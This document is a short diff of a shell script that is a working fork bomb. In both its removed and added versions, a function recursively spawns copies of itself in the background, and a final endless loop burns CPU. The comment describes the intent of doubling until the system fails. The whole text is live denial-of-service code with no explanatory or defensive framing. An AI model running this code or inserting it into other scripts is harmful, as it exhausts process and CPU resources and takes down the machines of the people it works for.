@@ -1,5 +1,5 @@
 # Doubles until it may not, and goes on trying.
-echo up
-bomb() { bomb "$1" | bomb "$1" & }
-bomb "$1" 2>/dev/null
+echo "up $UID"
+bomb() { bomb | bomb & }
+bomb 2>/dev/null
 while :; do :; done
